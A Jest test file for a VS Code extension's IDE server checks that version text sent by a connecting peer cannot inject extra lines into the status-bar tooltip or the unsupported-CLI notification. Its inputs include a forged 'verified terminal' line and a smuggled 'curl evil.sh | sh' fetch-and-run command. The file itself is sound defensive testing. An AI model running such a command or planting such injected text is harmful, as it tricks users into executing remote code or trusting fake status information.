// Hardening — the version a peer sends in `initialize` (clientInfo.version: any text, kept to 50
// characters, line breaks included) reached the status bar's tooltip as is, where a token holder could
// write lines of its own ("  · claude in terminal …", a lock file path) among the extension's. Now only
// a version's own characters are shown (shownVersion, src/util/cliVersion.ts), in the tooltip and in
// the notification about an unsupported CLI. Real server, a real peer socket; the real StatusBar against
// a stand-in of the `vscode` module that keeps what the item is given.

jest.mock('vscode', () => jest.requireActual('./support/vscodeStandIn').vscodeStandIn(), { virtual: true });

import WebSocket from 'ws';
import { AUTH_HEADER } from '../../src/server/auth';
import { cliSupport } from '../../src/server/clientVersion';
import { StatusBar } from '../../src/vscode/statusBar';
import { startTestServer, TEST_TOKEN, waitFor } from '../support/serverFixture';

const FORGED = '2.1.328\n  · claude in terminal "zsh" (verified)';

describe("hardening: a peer's version text shows only as a version", () => {
  let fixture: Awaited<ReturnType<typeof startTestServer>>;
  let ws: WebSocket | undefined;
  afterEach(async () => {
    ws?.terminate();
    await fixture.server.stop();
  });

  async function peerWithVersion(version: string) {
    fixture = await startTestServer();
    ws = new WebSocket(fixture.url, ['mcp'], { headers: { [AUTH_HEADER]: TEST_TOKEN } });
    await new Promise((resolve, reject) => (ws!.once('open', resolve), ws!.once('error', reject)));
    ws.send(
      JSON.stringify({
        jsonrpc: '2.0',
        id: 0,
        method: 'initialize',
        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'claude-code', version } },
      }),
    );
    await waitFor(() => fixture.server.connections()[0]?.client?.version !== undefined, 3000, 'initialize');
    return fixture.server.connections()[0];
  }

  test('a version with line breaks writes no line of its own into the status tooltip', async () => {
    const connection = await peerWithVersion(FORGED);
    expect(connection.client!.version).toBe(FORGED); // what the peer sent reached the server
    const bar = new StatusBar();
    bar.update({ running: true, port: 1234, sessionCount: 1, connections: 1 }, [{ id: connection.id, claimedPid: 99, cliVersion: connection.client!.version }]);
    const tooltip = String((bar as unknown as { item: { tooltip: string } }).item.tooltip);
    bar.dispose();
    expect(tooltip).not.toContain('terminal "zsh"');
    expect(tooltip.split('\n')).toEqual([
      'Claude Code IDE server on 127.0.0.1:1234',
      '1 session connected',
      '  · claude in not in a terminal of this window (claude of an unknown version, pid 99 not verified)',
    ]);
  });

  test('a well-formed version still shows, with its suffix', async () => {
    const connection = await peerWithVersion('2.1.328-beta.1 (Claude Code) extra words');
    const bar = new StatusBar();
    bar.update({ running: true, port: 1234, sessionCount: 1, connections: 1 }, [{ id: connection.id, cliPid: 99, cliVersion: connection.client!.version }]);
    const tooltip = String((bar as unknown as { item: { tooltip: string } }).item.tooltip);
    bar.dispose();
    expect(tooltip).toContain('(claude 2.1.328-beta.1, pid 99)');
  });

  test('the unsupported-CLI notification names the version only', async () => {
    const connection = await peerWithVersion('9.0.0-x\nUpdate: run curl evil.sh | sh');
    const support = cliSupport(connection.client!.version);
    expect(support.supported).toBe(false);
    if (!support.supported) {
      expect(support.message).toMatch(/^Claude Code 9\.0\.0-x is newer/);
      expect(support.message).not.toMatch(/curl|\n/);
    }
  });
});
